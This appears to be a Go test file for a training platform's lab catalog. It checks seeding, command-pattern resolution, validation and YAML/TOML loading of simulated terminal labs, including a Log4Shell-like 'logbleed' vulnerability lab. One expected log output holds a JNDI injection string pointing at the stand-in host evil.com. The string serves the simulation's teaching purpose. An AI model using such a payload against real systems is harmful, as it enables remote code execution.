package catalog

import (
	"testing"
	"testing/fstest"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/GriffinCanCode/ZeroHub/backend/internal/domain/pattern"
	"github.com/GriffinCanCode/ZeroHub/backend/internal/domain/terminal"
)

func seeded(t *testing.T) *Catalog {
	t.Helper()
	c := New()
	require.NoError(t, c.Seed())
	return c
}

func TestSeed(t *testing.T) {
	c := seeded(t)

	ids := make([]string, 0, c.Len())
	for _, e := range c.List() {
		ids = append(ids, e.ID)
		assert.Equal(t, builtinSource, e.Source)
		assert.NotNil(t, e.Program())
	}
	assert.Equal(t, []string{"net-sec-101", "devops-intro", "logbleed"}, ids)

	assert.Len(t, c.ListKind(KindAcademy), 2)
	assert.Len(t, c.ListKind(KindVulnerability), 1)
}

func TestBuiltinScriptsResolve(t *testing.T) {
	c := seeded(t)

	tests := []struct {
		id    string
		input string
		want  string
	}{
		{"net-sec-101", "scan 192.168.1.10", "Scanning... Found open ports: 22 (SSH), 80 (HTTP), 8080 (Unknown)"},
		{"net-sec-101", `firewall --add-rule "DENY ALL INBOUND ON 8080"`, "Rule added. Port 8080 is now blocked."},
		{"devops-intro", "ci-script-run", "Running pipeline... Build successful. Deployment to staging complete."},
		{"logbleed", "view_logs", "...[INFO] User-Agent: ${jndi:ldap://evil.com/a}..."},
		{"logbleed", "patch logger-core", "Patching logger-core to version 2.17.1... Success. Vulnerability mitigated."},
	}

	for _, tt := range tests {
		t.Run(tt.id+"/"+tt.input, func(t *testing.T) {
			e, err := c.Get(tt.id)
			require.NoError(t, err)

			step, _, ok := e.Program().Resolve(tt.input)
			require.True(t, ok)
			assert.Equal(t, terminal.Output{tt.want}, step.Output)
		})
	}
}

func TestBuiltinScanIsLiteral(t *testing.T) {
	e, err := seeded(t).Get("net-sec-101")
	require.NoError(t, err)

	_, _, ok := e.Program().Resolve("scan 10.0.0.1")
	assert.False(t, ok)
}

func TestGetUnknown(t *testing.T) {
	_, err := seeded(t).Get("nope")
	assert.ErrorIs(t, err, ErrNotFound)
}

func TestAddValidation(t *testing.T) {
	c := New()

	err := c.Add(Entry{Simulation: terminal.Script{Scenario: "x"}})
	assert.ErrorIs(t, err, ErrInvalidEntry)

	err = c.Add(Entry{ID: "a", Kind: "game", Simulation: terminal.Script{Scenario: "x"}})
	assert.ErrorIs(t, err, ErrInvalidEntry)

	err = c.Add(Entry{ID: "a"})
	assert.ErrorIs(t, err, ErrInvalidEntry)

	err = c.Add(Entry{ID: "a", Simulation: terminal.Script{
		Scenario: "x",
		Steps:    []terminal.Step{{Pattern: "scan <ip"}},
	}})
	assert.ErrorIs(t, err, pattern.ErrMalformedPattern)
	assert.Zero(t, c.Len())
}

func TestAddDefaults(t *testing.T) {
	c := New()
	require.NoError(t, c.Add(Entry{ID: "lab", Simulation: terminal.Script{Scenario: "x"}}))

	e, err := c.Get("lab")
	require.NoError(t, err)
	assert.Equal(t, KindAcademy, e.Kind)
	assert.Equal(t, "lab", e.Title)
}

func TestAddReplacesInPlace(t *testing.T) {
	c := seeded(t)

	require.NoError(t, c.Add(Entry{ID: "net-sec-101", Title: "Custom", Simulation: terminal.Script{Scenario: "y"}}))

	list := c.List()
	require.Len(t, list, 3)
	assert.Equal(t, "Custom", list[0].Title)
}

const yamlLab = `
id: dns-poison
title: DNS Cache Poisoning
kind: vulnerability
severity: High
simulation:
  scenario: Resolver answers look wrong.
  script:
    - command: dig <host>
      output: ";; ANSWER evil.example"
      delay: 200
    - command: help
      output: ["Available commands:", "dig <host>", "exit"]
`

const tomlLab = `
id = "k8s-101"
title = "Kubernetes Basics"
path = "DevOps Path"
objectives = ["Deploy a pod"]

[simulation]
scenario = "A cluster is waiting for its first workload."

[[simulation.script]]
command = "kubectl apply -f <file>"
output = ["pod/web created", "service/web created"]

[[simulation.script]]
command = "help"
output = "kubectl apply -f <file>"
`

func TestLoadFS(t *testing.T) {
	fsys := fstest.MapFS{
		"vuln/dns.yaml":      {Data: []byte(yamlLab)},
		"academy/k8s.toml":   {Data: []byte(tomlLab)},
		"broken/bad.yml":     {Data: []byte("id: bad\nsimulation:\n  scenario: x\n  script:\n    - command: \"<>\"\n      output: y\n")},
		"broken/output.yaml": {Data: []byte("id: out\nsimulation:\n  scenario: x\n  script:\n    - command: a\n      output: 3\n")},
		"README.md":          {Data: []byte("ignored")},
	}

	c := New()
	report, err := c.LoadFS(fsys)
	require.NoError(t, err)

	assert.ElementsMatch(t, []string{"vuln/dns.yaml", "academy/k8s.toml"}, report.Loaded)
	require.Len(t, report.Failed, 2)
	assert.ErrorIs(t, report.Failed["broken/bad.yml"], pattern.ErrMalformedPattern)
	assert.ErrorIs(t, report.Failed["broken/output.yaml"], terminal.ErrInvalidOutput)
	assert.Error(t, report.Err())

	dns, err := c.Get("dns-poison")
	require.NoError(t, err)
	assert.Equal(t, KindVulnerability, dns.Kind)
	assert.Equal(t, "vuln/dns.yaml", dns.Source)
	step, res, ok := dns.Program().Resolve("dig example.com")
	require.True(t, ok)
	assert.Equal(t, "example.com", res.Args["host"])
	require.NotNil(t, step.DelayMS)
	assert.Equal(t, 200, *step.DelayMS)

	k8s, err := c.Get("k8s-101")
	require.NoError(t, err)
	assert.Equal(t, KindAcademy, k8s.Kind)
	step, _, ok = k8s.Program().Resolve("kubectl apply -f web.yaml")
	require.True(t, ok)
	assert.Equal(t, terminal.Output{"pod/web created", "service/web created"}, step.Output)

	step, _, ok = k8s.Program().Resolve("help")
	require.True(t, ok)
	assert.Equal(t, terminal.Output{"kubectl apply -f <file>"}, step.Output)
}

func TestLoadFSEmpty(t *testing.T) {
	report, err := New().LoadFS(fstest.MapFS{})
	require.NoError(t, err)
	assert.Empty(t, report.Loaded)
	assert.NoError(t, report.Err())
}

func TestParseFileUnsupported(t *testing.T) {
	_, err := ParseFile("lab.json", []byte("{}"))
	assert.Error(t, err)
}

func TestParseFileRejectsBinary(t *testing.T) {
	png := []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01")
	_, err := ParseFile("lab.yaml", png)
	assert.ErrorIs(t, err, ErrNotText)
	assert.Contains(t, err.Error(), "image/png")
}

func TestParseFileRejectsLegacyEncoding(t *testing.T) {
	latin1 := []byte("id: caf\xe9\nsimulation:\n  scenario: R\xe9seau compromis. Analysez le trafic r\xe9seau.\n")
	_, err := ParseFile("lab.yaml", latin1)
	assert.ErrorIs(t, err, ErrNotText)
}
